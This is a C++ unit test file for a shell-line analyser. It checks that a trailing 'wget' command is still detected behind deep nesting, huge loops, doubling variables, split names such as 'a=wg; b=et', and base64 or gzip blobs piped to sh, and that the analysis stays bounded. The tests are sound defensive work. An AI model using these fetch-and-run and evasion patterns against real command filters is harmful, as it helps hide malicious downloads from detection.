#include "shell/text/limits.hpp"
#include "unit/shell/read_line.hpp"

#include <boost/test/unit_test.hpp>

BOOST_AUTO_TEST_SUITE(shell_limits)

using namespace rulehost::shell;

namespace {

std::string repeated(std::string_view text, std::size_t times) {
    std::string all;
    for (std::size_t i = 0; i < times; ++i)
        all += text;
    return all;
}

/// The whole line, as often as reading starts afresh.
struct whole {
    std::size_t steps = 0;
    std::size_t bytes = 0; ///< of texts that are not part of the line
    bool truncated = false;
    std::size_t readings = 0;
    std::size_t commands = 0;
    bool has_wget = false;
    std::size_t max_commands = 0;
};

whole read_all(std::string_view line) {
    auto const programs = program_table::shipped();
    walker reads(*programs);
    reading result;
    whole all;
    for (std::size_t at = 0; at < line.size(); ++all.readings) {
        auto const next = reads.read(line, at, result);
        BOOST_REQUIRE(next > at);
        at = next;
        all.commands += result.commands.size();
        all.steps += reads.steps();
        all.bytes = std::max(all.bytes, result.arena.total());
        all.truncated = all.truncated || result.truncated;
        all.max_commands = std::max(all.max_commands, result.commands.size());
        for (auto const& each : result.commands)
            all.has_wget = all.has_wget || each.program == "wget";
    }
    return all;
}

} // namespace

BOOST_AUTO_TEST_CASE(command_behind_very_many_is_seen) {
    auto const all = read_all(repeated("id;", 50'000) + "wget u");
    BOOST_TEST(all.has_wget);
    BOOST_TEST(all.commands == 50'001U);
    BOOST_TEST(all.max_commands <= 2 * limits::max_commands);
}

BOOST_AUTO_TEST_CASE(command_below_deep_nesting_is_seen) {
    for (std::string_view const open : {"(", "{ ", "$(", "if ", "while ", "! ", "((", "f() {", "case x in a) "})
        BOOST_TEST(read_all(repeated(open, 1'000) + "wget u").has_wget, open);
}

BOOST_AUTO_TEST_CASE(command_behind_very_many_words_is_seen) {
    BOOST_TEST(read_all("echo " + repeated("a ", 200'000) + "; wget u").has_wget);
    BOOST_TEST(read_all("echo " + repeated("\\a", 200'000) + "; wget u").has_wget);
}

BOOST_AUTO_TEST_CASE(values_that_double_stay_bounded) {
    auto const line = "a=xxxxxxxxxxxxxxxx;" + repeated("a=$a$a;", 4'000) + "echo $a; wget u";
    BOOST_TEST(read_all(line).has_wget);
    line_reading const read(line);
    BOOST_TEST(read.read.truncated);
    BOOST_TEST(read.read.arena.total() < 8 * (limits::max_texts + line.size()));
}

BOOST_AUTO_TEST_CASE(loops_without_commands_stay_bounded) {
    auto const line = repeated("for i in 1 2 3; do ", 15) + repeated("done; ", 15) + "wget u";
    line_reading const read(line);
    BOOST_TEST(read.commands().contains({"wget", "u"}));
    BOOST_TEST(read.read.places.size() < 50'000U);
}

BOOST_AUTO_TEST_CASE(loops_and_functions_that_multiply_stay_bounded) {
    std::string line;
    for (int i = 0; i < 12; ++i)
        line += "for i" + std::to_string(i) + " in 1 2 3 4 5 6 7 8 9; do ";
    line += "id;" + repeated(" done;", 12) + "wget u";
    auto const loops = read_all(line);
    BOOST_TEST(loops.has_wget);
    BOOST_TEST(loops.commands < 50'000U);
    line = "f0() { id; };";
    for (int i = 1; i < 40; ++i)
        line += "f" + std::to_string(i) + "() { f" + std::to_string(i - 1) + "; f" + std::to_string(i - 1) + "; };";
    auto const functions = read_all(line + "f39; wget u");
    BOOST_TEST(functions.has_wget);
    BOOST_TEST(functions.commands < 50'000U);
}

BOOST_AUTO_TEST_CASE(memory_is_kept_from_reading_to_reading) {
    auto const programs = program_table::shipped();
    walker reads(*programs);
    reading result;
    std::string const line =
        "a=wg; b=et; for i in 1 2; do sudo $a$b \"http://h/$i\" | sh; done; echo d2dldCB1 | base64 -d | sh";
    reads.read(line, 0, result);
    auto const commands = result.commands.capacity();
    auto const words = result.words.capacity();
    auto const* const first = result.commands.data();
    for (int i = 0; i < 100; ++i)
        reads.read(line, 0, result);
    BOOST_TEST(result.commands.capacity() == commands);
    BOOST_TEST(result.words.capacity() == words);
    BOOST_TEST(result.commands.data() == first);
}

namespace {

/// A text of 64 KiB: `front`, many times `piece`, and `back`.
struct hostile_text {
    std::string front;
    std::string_view piece;
    std::string back = {};
    bool takes_the_rest = false; ///< it is not closed, and includes everything after it
};

std::string filled(hostile_text const& it) {
    auto all = it.front;
    while (all.size() + it.piece.size() + it.back.size() <= 64 * 1024)
        all += it.piece;
    return all + it.back;
}

std::string const kilobyte = repeated("x", 1024);
std::string const blanks_between = "a='" + repeated("b ", 512) + "';";
std::string const many_words = "set -- " + repeated("a ", 512) + ";";
std::string const long_value = "a=" + repeated("x", 4000) + ";";
std::string const long_function = "f(){ " + repeated("id;", 100) + "};";

std::string const two_loops = "for a in {1..64};do for b in {1..64};do ";
std::string const two_ends = ";done;done";

hostile_text const hostile_texts[]{
    {"a=" + kilobyte.substr(0, 16) + ";", "a=$a$a;"},
    {"", "a=$a$a;"},
    {"", "a=$b;$a;"},
    {long_value, "$a "},
    {long_value, "b=${a//x/y};"},
    {long_value, "b=${a%%*y};"},
    {long_value, "b=${a##*x*x*x*y};"},
    {blanks_between, "$a "},
    {blanks_between, "for i in $a;do c;done;"},
    {many_words, "$@;"},
    {many_words, "\"$*\" "},
    {"set -- ", "a ", ";\"$@\""},
    {long_function, "f;"},
    {"f(){ $1;};", "f id;"},
    {"", "f(){ f;};f;"},
    {"", "eval "},
    {"eval ", "a;", ""},
    {"sh -c '", "sh -c \"a\";", "'"},
    {"", "eval \"$a\";"},
    {"alias a='" + repeated("id;", 100) + "'\n", "a\n"},
    {"", "for i in {1..9};do b;done;"},
    {"", "for i in 1 2 3;do "},
    {"", "for((;;));do a;done;"},
    {"seq 9|", "while read a;do b $a;done;"},
    {"", "$("},
    {"", "`a`"},
    {"", "ab${", "", true},
    {"", "(("},
    {"", "$((a"},
    {"", "("},
    {"", "a|"},
    {"", "a="},
    {"xargs a<<E\n", "b\n", "E\n"},
    {"xargs -n1 a<<E\n", "b\n", "E\n"},
    {"xargs " + repeated("a ", 2000) + "<<E\n", "b\n", "E\n"},
    {"", "echo a b|xargs sh -c;"},
    {"", "echo aWQ=|base64 -d|sh;"},
    {"", "echo a|sed s/a/bbbbbbbb/g;"},
    {"", "printf %s%s%s a;"},
    {"echo x>f;", "echo a>>f;"},
    {"echo '" + repeated("a;", 200) + "'>f;", "sh f;"},
    {"", "cd a;"},
    {"cd " + kilobyte + ";", "cat a;"},
    {"IFS=" + kilobyte + ";" + long_value, "$a "},
    {"", "*a*b;"},
    {"cat ", "/*/*a* "},
    {"case x in ", "a) b;;", " esac"},
    {"if a;then b;", "elif c;then d;", "fi"},
    {"", "<<E ", "", true},
    {"{ ", "a;", "}>1>2>3>4>5>6>7>8>9"},
    {"", "sudo "},
    {"", "{a,b}"},
    {"python -c \"", "system('a');", "\""},
    {"echo x>f;a ", "b ", ""},
    {"", "trap 'a;b;c' EXIT;"},
    {"", "echo x|tail -n +9999999999999999999|sh;"},
    {"", "echo -n|tail -n +2|sh;"},
    {two_loops + "echo ", "x", two_ends},
    {two_loops + "echo \"$a", "x", "\"" + two_ends},
    {two_loops + "a=\"$b", "x", "\"" + two_ends},
    {two_loops + "printf 'a\\n", "x", "'" + two_ends},
    {two_loops + "case \"$a", "x", "\" in a) ;;esac" + two_ends},
    {two_loops + "[[ \"$a", "x", "\" == a ]]" + two_ends},
    {two_loops + "echo {a,b", "x", "}" + two_ends},
    {two_loops + "*[", "x", two_ends},
    {two_loops + "cat /*[", "x", two_ends},
    {"a=" + kilobyte.substr(0, 100) + ";" + two_loops + ": ${a#*[", "x", "}" + two_ends},
    {"a=" + kilobyte.substr(0, 100) + ";" + two_loops + ": ${a#*[", "x", "]}" + two_ends},
    {"a=" + kilobyte.substr(0, 100) + ";" + two_loops + ": ${a//*[", "x", "/y}" + two_ends},
    {"printf '" + repeated("%s", 10'000) + "' ", "a "},
    {"echo {", ",", "}" + repeated("x", 32 * 1024)},
    {"echo ", "{,", repeated("}", 200)},
    {"", "{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}"},
};

} // namespace

/// Of a step for what a line does not spell out: two for each byte, nested texts as long as the line, and what a short
/// line may take.
BOOST_AUTO_TEST_CASE(work_of_a_hostile_text_is_bounded_by_its_length) {
    for (auto const& each : hostile_texts) {
        auto const text = filled(each);
        auto const all = read_all(text);
        BOOST_TEST_CONTEXT(each.front.substr(0, 80) << " .. " << each.piece) {
            BOOST_TEST(all.steps <=
                       24 * text.size() + 2 * (limits::max_steps + limits::max_texts + 64 * limits::max_commands));
            BOOST_TEST(all.commands <= text.size());
            BOOST_TEST(all.bytes <= 16 * (text.size() + limits::max_texts));
        }
    }
}

BOOST_AUTO_TEST_CASE(command_behind_a_hostile_text_is_seen) {
    for (auto const& each : hostile_texts)
        BOOST_TEST((each.takes_the_rest || read_all(filled(each) + "\n\nwget u").has_wget),
                   each.front.substr(0, 40) << " .. " << each.piece);
}

BOOST_AUTO_TEST_CASE(truncation_is_reported) {
    BOOST_TEST(read_all(long_function + repeated("f;", 20'000)).truncated);
    BOOST_TEST(read_all(long_value + repeated("$a ", 1'000)).truncated);
    BOOST_TEST(read_all(repeated("sudo ", 40) + "id").truncated);
    BOOST_TEST(!read_all("for i in 1 2 3; do wget h/$i; done; echo d2dldCB1 | base64 -d | sh").truncated);
}

BOOST_AUTO_TEST_CASE(value_that_was_spent_is_known_again_behind_a_costly_construct) {
    auto const all = read_all(long_value + repeated("$a ", 1'000) + "; b=wg; c=et; $b$c u");
    BOOST_TEST(all.truncated);
    BOOST_TEST(all.has_wget);
}

BOOST_AUTO_TEST_CASE(line_is_read_beyond_a_mebibyte) {
    BOOST_TEST(read_all("echo " + repeated("aaaaaaaaaaaaaaa ", limits::max_line / 16 + 10) + "\nwget u").has_wget);
}

BOOST_AUTO_TEST_CASE(decoder_gives_no_more_than_64_kib) {
    // `wget v`, 200,000 blanks and a command.
    line_reading const line("echo "
                            "H4sIAAAAAAACA+3BMQ0AIAwAMCvzMTuQZT8Z9tHA3/bWPjEZAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
                            "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
                            "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
                            "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAMC37PUA7yKpPUoNAwA="
                            "|base64 -d|gunzip|sh; wget u");
    BOOST_TEST(line.commands().contains({"wget", "v"}));
    BOOST_TEST(line.commands().contains({"wget", "u"}));
    for (auto const& each : line.read.decoded)
        BOOST_TEST(each.size() <= limits::max_text);
}

BOOST_AUTO_TEST_SUITE_END()
